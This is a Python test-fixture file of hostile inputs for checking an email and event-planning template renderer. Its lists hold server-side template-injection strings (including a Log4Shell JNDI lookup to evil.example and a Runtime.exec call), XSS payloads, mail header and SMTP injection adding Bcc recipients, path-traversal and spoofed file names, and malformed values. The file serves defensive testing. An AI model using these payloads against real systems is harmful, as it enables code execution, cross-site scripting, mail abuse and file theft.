"""What somebody writes into a context who wants more than a message: texts, values and names of files."""

from typing import Any

# Code of template languages, which is words here.
CODE = [
    "{{ company }} {{ 'x' | upcase | append: 'y' }} {{ words.regards }}{{ postal_address }}",
    "{% raw %}{{ company }}{% endraw %} {{- company -}}{%- assign company = 'Evil' -%} {# gone #}",
    "{% include 'foot.html' %}{% render 'generic' %}{% layout 'x' %}{% extends 'x' %}",
    "{% for x in (1..100000000) %}x{% endfor %}{{ 7 | times: 7 }}{% capture company %}Evil{% endcapture %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ config.items() }} {{ self.__init__.__globals__.os }}",
    "<%= 7 * 7 %> <%# ERB %> ${7*7} #{7*7} @{7*7} *{7*7} ~{7*7} [[${7*7}]] {7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')} ${jndi:ldap://evil.example/a}",
    "{company} {0} {company.__class__} %s %(company)s $company",
    "{{ company",
    "{% if",
    "}} {{ %} {%",
]
# What would be markup, an attribute or an address if it were not a text.
MARKUP = [
    "<script>alert(1)</script>",
    "</title></style></textarea></script><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)//",
    '" style="background:url(javascript:alert(1))" onmouseover="alert(1)',
    "<a href='javascript:alert(1)'>x</a><a href=https://evil.example>y</a>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- links --><!--[if mso]><b>x</b><![endif]--><!--",
    "--!><![CDATA[<script>alert(1)</script>]]><?xml version='1.0'?><!DOCTYPE html>",
    "</td></tr></table></body></html><h1>gone",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &NewLine; &lt;",
    "x:expression(alert(1)) } body { display: none } @import 'https://evil.example/x.css';",
    "javascript:alert(1) data:text/html;base64,PHNjcmlwdD4= vbscript:msgbox(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039b\u203a \u02bax\u02ba +ADw-script+AD4-",
    "İİİİİİİİİİİİ ẞẞẞ \ufb01 ŉ ǰ \U0001f469\u200d\U0001f467 a\u0301\u0323",
]
# What would begin another header, another mail or another part.
BREAKS = [
    "Hi\r\nBcc: evil@attacker.example\r\n\tBcc: evil@attacker.example\r\n X-Folded: yes",
    "Hi\nBcc: evil@attacker.example\n\n<b>body</b>",
    "Hi\rBcc: evil@attacker.example",
    "Hi\x85Bcc: evil@attacker.example\u2028Bcc: evil@attacker.example\u2029Bcc: evil@attacker.example",
    "Hi\x0b\x0c\x1c\x1d\x1e\x1b[2J\x07\x08\x7f\x9bBcc: evil@attacker.example",
    "Hi\u560a\u560dBcc: evil@attacker.example%0d%0aBcc: evil@attacker.example",
    "=?utf-8?q?Hi=0D=0ABcc=3A_evil=40attacker=2Eexample?= =?utf-7?b?PA==?=",
    'Hi, evil@attacker.example, Eve <eve@attacker.example>; "x" <y@attacker.example>',
    "Hi\r\n.\r\nMAIL FROM:<evil@attacker.example>\r\nRCPT TO:<x@attacker.example>\r\nDATA\r\nx\r\n.\r\n",
    "Hi\n.\nMAIL FROM:<evil@attacker.example>\n\r.\r\r\n.\rQUIT\r",
    "--===============1==\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--===============1==--",
    "Hi\n-- \nUnsubscribe: https://evil.example\n\n--\nFrom here\nbegin 644 x.exe",
]
# What would turn the words around it.
TURNS = ["\u202egnp.exe\u202c \u202dleft \u202aa \u202bb", "\u2066isolated \u2067never \u2068closed"]
LONG = ["x" * 1_500, "é" * 300 + " " + "\U0001f40d" * 200, "word " * 300, "<" * 700 + "&" * 700]
LITERAL = CODE + MARKUP  # these are shown letter for letter
TEXTS = LITERAL + BREAKS + TURNS + LONG

NO_LINKS = [
    "javascript:alert(1)",
    " JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/t/c/x",
    "https:evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "https://crm.example@evil.example/",
    "https://crm.example\r\n.evil.example/",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/\u202egnp.exe",
    "https://evil.example/{{ company }}",
    "https://evil.example/" + "x" * 3_000,
    "https://[::1",
    "https://x:99999/",
    "mailto:evil@attacker.example",
]

# What is not the address of one mailbox, or of one phone.
NO_ADDRESSES = [
    "evil",
    "@",
    "a@b@c.example",
    "ann@x.example,bob@x.example",
    "ann@x.example bob@x.example",
    "Ann <ann@x.example>",
    "<ann@x.example>",
    "ann@x.example\r\nBcc: evil@x.example",
    "ann@x.example\nRCPT TO:<evil@x.example>",
    "ann@x.example> SIZE=1 <",
    "ann@x.example\x7f",
    "\u202eann@x.example",
    '"a b"@x.example',
    "<script>@x.example",
    "{{ company }}@x.example",
    "ann@[127.0.0.1]",
    "ann@localhost",
    "x" * 400 + "@x.example",
    "mailto:ann@x.example?bcc=evil@x.example",
]
NO_PHONES = [
    "call me",
    "+",
    "++254700000001",
    "+254700000001,+254700000002",
    "+254700000001\r\n+254700000002",
    "+254700000001;ext=1",
    "+254 700 000 001 or 2",
    "tel:+254700000001",
    "whatsapp:whatsapp:+254700000001",
    "messenger:100",
    "\u0662\u0665\u0664\u0667" + "\u0660" * 7,
    "0" * 60,
    "{{ phone }}",
    "ann@x.example",
]

# Values that no template expects, whatever its key.
VALUES: list[Any] = [
    None,
    True,
    False,
    0,
    -0.0,
    -0.001,
    1e308,
    -1e-308,
    10**19,
    10**400,
    int("9" * 1_000),
    "NaN",
    "-Infinity",
    "sNaN123",
    "1e999999999",
    "1e-999999999",
    "0e999999999",
    "1E+99999999999999999999",
    "0x1F",
    "1_000",
    "\u0663\u0664\u066b\u0665",
    "0000-00-00",
    "0001-01-01",
    "2025-02-30",
    "9999-12-31T23:59:59.9999999Z",
    "9999-12-31T23:59:59-23:59",
    "2025-12-15T24:00:00Z",
    "-9999-01-01",
    {},
    [],
    {"name": {"name": {"name": "x"}}},
    {"size": "x", "first": "y", "last": "z", "__class__": "w", "__html__": "<b>", "__liquid__": "x"},
    [[[[["x"]]]]],
    [None, True, 0, "", {}, [], {"name": None}, {"name": ["<b>"]}, {"breakdown": "abc"}],
    {"": "", " ": " ", "\n": "\n", "{{ x }}": "{{ x }}", "<b>": "<b>"},
]

# Each is taken, and is more than a template shows.
TOO_MUCH: list[dict[str, Any]] = [
    {"message": "<" * 60_000},
    {"message": "'" * 60_000},
    {"message": "x\n" * 20_000},
    {
        "message": 10**19,
        "event_type": "wedding",
        "action_label": "x" * 60_000,
        "action_url": "https://plan.example/",
    },
    {"budget_strategies": [{"name": "x", "total": 10**400}]},
    {"currency": "<" * 10_000, "budget_strategies": [{"name": "x", "total": 1}] * 12},
]

# Keys that mean something to the templates, or to the language that they are written in.
INNER_KEYS = [
    *(
        "size",
        "first",
        "last",
        "forloop",
        "forloop.index",
        "tablerowloop",
        "strategy",
        "vendor",
        "part",
        "cost",
    ),
    *("target", "words", "company", "customer", "first_name", "given_name", "language", "subject", "preview"),
    *(
        "postal_address",
        "nil",
        "empty",
        "blank",
        "true",
        "now",
        "today",
        "__class__",
        "__globals__",
        "self",
        "env",
    ),
    *("unsubscribe_url", "pixel_url", "headers", "recipient", "template", "html", "text", "links", ""),
]

# What names no file of the folder, or one that may not leave.
FILES: list[Any] = [
    *("../plan.pdf", "..\\plan.pdf", "/etc/passwd.pdf", "C:\\plan.pdf", "folder/plan.pdf", "./plan.pdf"),
    *("file:///plan.pdf", "https://evil.example/plan.pdf", "data:application/pdf;base64,JVBERi0=.pdf"),
    *("plan.pdf\r\nBcc: evil@attacker.example", "plan%2epdf.pdf", "%2e%2e%2fplan.pdf", '"plan".pdf'),
    *("plan.pdf; name=evil.exe", ".plan.pdf", "..pdf", "plan.exe", "plan.pdf.exe", "\u202efdp.exe.pdf"),
    *("\u2024\u2024\u2215plan.pdf", "\U0001f40d" * 110 + ".pdf", "x" * 5_000 + ".pdf"),
    *("folder.pdf", "link.pdf", "pipe.pdf", "fake.pdf", "large.pdf"),
    *(
        {"filename": {"name": "plan.pdf"}},
        {"filename": "../plan.pdf", "name": "plan.pdf", "path": "/etc/passwd"},
    ),
    *(["plan.pdf"], None, True, 7, {}),
]

LINK = "https://plan.example/a?b=c&d=e"
# Every key whose value a template shows.
SHOWN = (
    *(
        "client_name",
        "email_subject",
        "event_type",
        "event_date",
        "currency",
        "planner_name",
        "selection_name",
    ),
    *(
        "amount",
        "confirmation_number",
        "summary",
        "error_message",
        "next_steps",
        "task",
        "due_date",
        "message",
    ),
    "action_label",
)


def everywhere(value: Any) -> dict[str, Any]:
    """A context that has the value in every place, and a button."""
    name = value if isinstance(value, str) else "name"
    row = dict.fromkeys(("name", "total", "price", "description", "category", "rating"), value)
    return dict.fromkeys(SHOWN, value) | {
        "budget_strategies": [row | {"breakdown": {name: 1}}, row | {"breakdown": {"part": value}}],
        "vendors": [row],
        "action_url": LINK,
    }
